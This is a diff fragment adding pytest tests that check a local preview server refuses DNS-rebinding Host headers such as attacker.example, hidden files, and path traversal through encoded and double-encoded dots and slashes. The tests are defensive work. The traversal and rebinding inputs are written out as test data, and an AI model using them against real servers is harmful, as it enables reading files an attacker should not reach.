+    "rebinding: the reload endpoint": ("attacker.example:{port}", "/__reload?page=/", 421),
+    "localhost is served": ("localhost:{port}", "/" + SERVED, 200),
+    "127.0.0.1 is served": (None, "/" + SERVED, 200),
+    "[::1] is served": ("[::1]:{port}", "/" + SERVED, 200),
+    "a hidden file": (None, "/.secret.html", 404),
+    "a hidden file, encoded dot": (None, "/%2esecret.html", 404),
+    "a hidden file, double-encoded dot": (None, "/%252esecret.html", 404),
+    "a hidden folder, double-encoded dot": (None, "/%252estaging/draft.html", 404),
+    "the cache, double-encoded dot": (None, "/%252epolicybrief-cache/key.txt", 404),
+    "a double-encoded slash": (None, "/qiaotou%252fdecision-makers.en.html", 404),
+    "climbing, double-encoded": (None, "/%252e%252e/secret.txt", 404),
+}
+
+
+@pytest.fixture(scope="module")
+def preview(good, tmp_path_factory):
+    """The preview server on the good output, a draft hidden in its staging folder."""
+    from policybrief.cli.serve import Preview, make_server
+
+    out = tmp_path_factory.mktemp("served") / "out"
+    shutil.copytree(good, out)
+    for hidden in (".secret.html", ".staging/draft.html", ".policybrief-cache/key.txt"):
+        (out / hidden).parent.mkdir(parents=True, exist_ok=True)
+        (out / hidden).write_text("<p>DRAFT</p>", encoding="utf-8")
+    (out.parent / "secret.txt").write_text(SECRET, encoding="utf-8")
+    server = make_server(Preview(out), 0)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield server
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.mark.parametrize("name", list(PREVIEW_CASES))
+def test_the_preview_answers_only_localhost_for_published_files(preview, name):
+    import http.client
+
+    host, path, status = PREVIEW_CASES[name]
+    port = preview.server_address[1]
+    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
+    connection.putrequest("GET", path, skip_host=True)
+    if host != "":
+        connection.putheader("Host", (host or "127.0.0.1:{port}").format(port=port))
+    connection.endheaders()
+    response = connection.getresponse()
+    body = response.read().decode("utf-8", "replace")
+    connection.close()
+    assert response.status == status, (response.status, body[:300])
+    assert "DRAFT" not in body and "TOP SECRET" not in body
+    if status == 200:
+        assert "<html" in body
+
+
+def test_the_preview_cases_are_counted():
+    assert len(PREVIEW_CASES) >= 15
